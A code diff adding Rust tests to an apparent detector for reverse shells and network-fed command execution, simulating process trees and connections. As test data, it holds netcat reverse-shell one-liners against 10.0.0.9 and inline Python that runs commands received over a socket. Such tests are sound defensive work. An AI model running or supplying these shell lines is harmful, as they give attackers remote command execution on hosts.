@@ -157,6 +157,19 @@ fn quiet_for_a_multiplexer_that_inherited_a_connection() {
 }
 
 #[test]
+fn a_multiplexer_is_followed_to_a_terminal_only() {
+    for (held, is_found) in [(slave(0, 1), true), (reads_pipe(0, 70), false), (unix(0, 60, 61), false)] {
+        let mut world = World::new();
+        world.exec(INIT, 9, Kind::Unknown, "/srv/relay", &["relay"], &[]);
+        world.opens(9, &[tcp(3, 50, Connected), master(4, 1), writes_pipe(5, 70), unix(6, 61, 60)]);
+        world.exec(INIT, 10, Kind::Multiplexer(Multiplexer::Tmux), "/usr/bin/tmux", &["tmux"], &[held]);
+        world.opens(10, &[master(6, 2)]);
+        let found = world.exec(10, 12, bash(), "/bin/bash", &["bash"], &[slave(0, 2), slave(1, 2)]);
+        assert_eq!(found.is_some(), is_found);
+    }
+}
+
+#[test]
 fn quiet_for_a_supervisor_that_reads_one_child_and_feeds_another() {
     let mut world = World::new();
     world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/s.py"], &[]);
@@ -328,6 +341,26 @@ fn a_script_that_runs_what_it_receives() {
 }
 
 #[test]
+fn a_command_that_needs_no_shell() {
+    let start = |script: &[&str], program: &str, network| {
+        let mut world = World::new();
+        world.exec(INIT, 10, python(), "/usr/bin/python3.11", script, &[]);
+        world.opens(10, &[tcp(3, 50, Connected), reads_pipe(5, 70)]);
+        if network {
+            world.tell_text(10, "subprocess.run(shlex.split(s.recv(99))); os.system('git pull')");
+        }
+        world.exec(10, 11, Kind::Unknown, program, &["x"], &[writes_pipe(1, 70)]).is_some()
+    };
+    let file = &["python3", "/srv/x.py"];
+    assert!(start(file, "/usr/bin/id", true));
+    assert!(!start(file, "/usr/bin/git", true), "its author named it");
+    assert!(!start(file, "/usr/bin/id", false));
+    let inline = "import socket,os\ns=socket.create_connection(('h',1))\nos.popen(s.recv(99))";
+    assert!(start(&["python3", "-c", inline], "/usr/bin/id", false));
+    assert!(!start(&["python3", "-c", "import pip"], "/usr/bin/id", false));
+}
+
+#[test]
 fn a_copy_of_a_script_serves_the_connection() {
     let mut world = World::new();
     world.exec(INIT, 10, python(), "/usr/bin/python3.11", &["python3", "/srv/x.py"], &[]);
@@ -381,4 +414,24 @@ fn quiet_for_what_a_script_of_known_text_writes_into_a_shell() {
     // a stage that has opened a connection of its own
     world.opens(11, &[tcp(5, 51, Connected)]);
     assert!(world.exec(10, 13, bash(), "/bin/sh", &["sh"], &[reads_pipe(0, 70), unix(1, 61, 60)]).is_some());
+}
+
+#[test]
+fn a_program_that_executes_what_its_client_reads() {
+    for (text, is_found) in [
+        ("nc 10.0.0.9 9001 | while read -r l; do eval \"$l\"; done", true),
+        ("nc 10.0.0.9 9001 | while read -r l; do echo \"$l\"; done", false),
+        // that shell is found
+        ("nc 10.0.0.9 9001 | sh | nc 10.0.0.9 9002", false),
+    ] {
+        let mut world = World::new();
+        world.exec(INIT, 11, bash(), "/bin/bash", &["bash", "-c", text], &[]);
+        world.exec(11, 12, Kind::Unknown, "/usr/bin/nc", &["nc", "10.0.0.9", "9001"], &[writes_pipe(1, 70)]);
+        world.opens(12, &[tcp(3, 50, Connected)]);
+        assert!(world.again(11).is_none(), "nobody has said whose connection it is");
+        world.connects(12);
+        let found = world.again(11);
+        assert_eq!(found.is_some(), is_found, "{text}");
+        assert!(found.is_none_or(|f| f.opener.is_some_and(|o| o.process.pid == 12)));
+    }
 }
